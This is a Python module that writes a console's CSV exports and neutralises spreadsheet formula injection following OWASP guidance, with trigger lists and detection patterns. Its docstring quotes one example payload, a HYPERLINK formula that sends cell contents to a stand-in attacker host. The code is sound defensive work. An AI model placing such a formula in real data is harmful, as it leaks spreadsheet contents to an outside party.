"""The one CSV writer of the console: every CSV it hands out (Users export, group members, audit log, provisioning
logs, operation previews and results, command-line exports) goes through :func:`to_csv_bytes`.

Exports are data, never formulas. A spreadsheet evaluates a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` (and OWASP lists tab, carriage return and line feed too: a leading control character is stripped by some
importers, leaving the formula). Directory data is written by whoever controls a tenant's attributes, so a
givenName ``=HYPERLINK("http://evil.example/?"&A1,"x")`` must arrive in Excel as that text. Following OWASP's CSV
Injection guidance (owasp.org/www-community/attacks/CSV_Injection, and ASVS 5.0 requirement 1.2.10 which adds
NUL), every text cell that starts with a trigger gets a leading single quote, and every text cell is quoted (so a
``;`` or ``,`` inside a value cannot start a new cell in a spreadsheet that splits on another separator). The
triggers also include the full-width and small-form variants (``＝ ＋ － ＠``, ``﹦ ﹢ ﹣ ﹫``), which Japanese IMEs
type and which spreadsheets may fold to ASCII, and a trigger after leading blanks (``"  =1+1"``), which some
importers trim.

Real numbers (``int``/``float``/``Decimal`` values, numeric DataFrame columns) are written unquoted and unchanged:
``-5`` stays the number -5. A *string* ``"-2+3"`` is text from a directory and is neutralised.

The file starts with a UTF-8 byte-order mark. Excel decides the encoding of a double-clicked ``.csv`` from it:
without a BOM, Excel on Japanese Windows reads the file as Shift_JIS (cp932) and every non-ASCII name (山田 太郎,
Zoë) turns into mojibake; with it, Excel, LibreOffice, Numbers and Google Sheets all read UTF-8. Python reads it
with ``encoding="utf-8-sig"`` (pandas strips it by itself). ``bom=False`` is there for machine consumers.
"""

from __future__ import annotations

import csv
import io
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from datetime import date, datetime, time
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

BOM = "\ufeff"

#: The first characters that make a spreadsheet evaluate a cell, or that an importer strips before one that does.
TRIGGERS = frozenset("=+-@\t\r\n\0" "\uff1d\uff0b\uff0d\uff20" "\ufe66\ufe62\ufe63\ufe6b")
#: Blanks that some importers trim before looking at the first character.
_BLANKS = " \u00a0\u3000\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u200b\u202f\u205f\ufeff"
_FORMULA = re.compile("[" + re.escape("".join(_BLANKS)) + "]*[" + re.escape("".join(sorted(TRIGGERS))) + "]")
QUOTE = "'"


_FIRST = frozenset(TRIGGERS | set(_BLANKS))
#: Inside a cell: a separator or line break that a spreadsheet splitting on another delimiter (a ";" locale opening
#: a "," file) or not honouring quotes would start a new cell at, followed by a trigger.
_SPLITS = ",;\t|\r\n"
_TRIGGER_CLASS = "[" + re.escape("".join(sorted(TRIGGERS))) + "]"
_INNER = re.compile("([" + re.escape(_SPLITS) + "])(?=[" + re.escape(_BLANKS + '"') + "]*" + _TRIGGER_CLASS + ")")
_INNER_BACK = re.compile("([" + re.escape(_SPLITS) + "])'(?=[" + re.escape(_BLANKS + '"') + "]*" + _TRIGGER_CLASS
                         + ")")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could evaluate ``text`` (or what an importer leaves of it) as a formula."""
    return bool(text) and text[0] in _FIRST and _FORMULA.match(text) is not None


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet will show it, never evaluate it: a ``'`` before it where it could start a formula,
    and after any separator or line break inside it that is followed by a trigger (OWASP: an attacker can use the
    field separator to start a new cell; ``a;=1+1`` in a ``;`` locale)."""
    out = _INNER.sub(r"\1'", text)
    return QUOTE + out if is_formula_like(out) else out


def restore(text: str) -> str:
    """Undo :func:`neutralise` (for files this console wrote and an operator uploads again)."""
    if text.startswith(QUOTE) and is_formula_like(text[1:]):
        text = text[1:]
    return _INNER_BACK.sub(r"\1", text)


def _is_number(value: Any) -> bool:
    return isinstance(value, (int, float, Decimal)) and not isinstance(value, bool)


def _cell(value: Any) -> Any:
    """A Python value -> a number (written as is) or neutralised text."""
    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if _is_number(value):
        if isinstance(value, float) and not math.isfinite(value):
            return "" if math.isnan(value) else str(value)
        if isinstance(value, Decimal) and not value.is_finite():
            return "" if value.is_nan() else str(value)
        return value
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (datetime, date, time)):
        return "" if value is pd.NaT else value.isoformat()
    if isinstance(value, np.datetime64):
        return "" if np.isnat(value) else pd.Timestamp(value).isoformat()
    if isinstance(value, np.generic):  # numpy numbers and booleans
        return _cell(value.item())
    if isinstance(value, bytes):
        value = value.decode("utf-8", errors="replace")
    return neutralise(str(value))


def _column(series: pd.Series) -> list[Any]:
    """One DataFrame column as cells; numeric columns stay numbers, everything else is neutralised text."""
    dtype = series.dtype
    if pd.api.types.is_bool_dtype(dtype):
        return ["" if v is None or v is pd.NA else ("true" if v else "false") for v in series.tolist()]
    if pd.api.types.is_numeric_dtype(dtype):
        return [_cell(v) for v in series.astype(object).tolist()]
    if pd.api.types.is_datetime64_any_dtype(dtype):
        return ["" if pd.isna(v) else v.isoformat() for v in series.tolist()]
    return [neutralise(v) if type(v) is str else _cell(v) for v in series.astype(object).tolist()]


def _writer(out: io.StringIO) -> Any:
    # QUOTE_NONNUMERIC: every text cell is quoted, numbers are not (true numbers stay numbers in a spreadsheet).
    return csv.writer(out, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")


def to_csv_bytes(data: pd.DataFrame | Iterable[Sequence[Any] | Mapping[str, Any]],
                 header: Sequence[str] | None = None, *, bom: bool = True) -> bytes:
    """A CSV file (UTF-8, BOM by default, CRLF) in which no cell can start a formula.

    ``data`` is a DataFrame (its columns are the header unless ``header`` renames them) or rows: sequences (with
    ``header`` as the first row, when given) or mappings (``header`` picks and orders the keys; default: the
    first row's keys)."""
    out = io.StringIO()
    if bom:
        out.write(BOM)
    w = _writer(out)
    if isinstance(data, pd.DataFrame):
        names = list(header) if header is not None else [str(c) for c in data.columns]
        if len(names) != data.shape[1]:
            raise ValueError(f"header has {len(names)} names for {data.shape[1]} columns")
        w.writerow([neutralise(str(n)) for n in names])
        columns = [_column(data.iloc[:, i]) for i in range(data.shape[1])]
        w.writerows(zip(*columns, strict=True) if columns else ([] for _ in range(len(data))))
    else:
        rows = iter(data)
        first = next(rows, None)
        keys: list[str] | None = None
        if isinstance(first, Mapping):
            keys = list(header) if header is not None else [str(k) for k in first]
            w.writerow([neutralise(k) for k in keys])
        elif header is not None:
            w.writerow([neutralise(str(h)) for h in header])
        for row in ([first] if first is not None else []):
            w.writerow(_row(row, keys))
        for row in rows:
            w.writerow(_row(row, keys))
    return out.getvalue().encode("utf-8")


def _row(row: Sequence[Any] | Mapping[str, Any], keys: list[str] | None) -> list[Any]:
    if keys is not None:
        if not isinstance(row, Mapping):
            raise TypeError("rows must all be mappings when the first one is")
        return [_cell(row.get(k)) for k in keys]
    if isinstance(row, (str, bytes)) or isinstance(row, Mapping):
        raise TypeError("each row must be a sequence of cells")
    return [_cell(v) for v in row]


def write_csv(path: str | Path, data: pd.DataFrame | Iterable[Sequence[Any] | Mapping[str, Any]],
              header: Sequence[str] | None = None, *, bom: bool = True) -> Path:
    """:func:`to_csv_bytes` to a file (written next to it first, then moved into place)."""
    target = Path(path)
    tmp = target.with_name(target.name + ".part")
    tmp.write_bytes(to_csv_bytes(data, header, bom=bom))
    tmp.replace(target)
    return target
